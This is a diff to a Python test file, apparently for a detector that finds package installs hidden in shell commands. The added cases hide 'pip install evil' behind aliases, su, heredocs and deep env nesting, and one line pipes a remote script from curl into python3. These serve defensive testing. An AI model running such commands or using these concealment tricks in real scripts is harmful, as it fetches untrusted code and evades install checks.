@@ -52,6 +52,9 @@ INSTALLS = [
     (["sh", "-c", "true && sh -c 'pip3 install evil'"], ["evil"]),
     (["sh", "-c", "X=$(pip install evil)"], ["evil"]),
     (["sh", "-c", "if true; then\n  uv pip install evil\nfi"], ["evil"]),
+    (["sh", "-c", "alias p='pip install'\np evil"], ["evil"]),  # dash expands aliases in scripts
+    (["su", "-c", "pip install evil", "root"], ["evil"]),
+    (["sh", "-c", "bash <<'EOF'\npip install evil\nEOF\n"], ["evil"]),
 ]
 
 
@@ -80,6 +83,8 @@ def test_requirements_known_only_at_run_time_are_listed(argv):
     ["sh", "-c", "echo {{$.inputs.parameters['msg']}}"],
     ["python3", "-c", "import subprocess; subprocess.run(['pip', 'install', 'evil'])"],
     ["sh", "-c", "pip install 'unterminated"],
+    ["sh", "-c", "curl -s https://x/get.py | python3"],
+    ["env"] * 3000 + ["pip", "install", "evil"],  # deeper than the interpreter's recursion limit
 ])
 def test_places_an_install_can_hide_are_unverifiable_not_clean(argv):
     found = _by_id(argv)
@@ -152,6 +157,7 @@ SHELL_CASES = [
     ["sh", "-c", 'pip install "$0" "$@"', "one", "two", "three"],
     ["sh", "-c", "eval 'pip install ev'\"al\""],
     ["sh", "-c", "f=z; pip install \"${f}\" \\\n  --no-deps w"],
+    ["sh", "-c", "alias p='pip install'\np al 'i as'"],
 ]
 
 
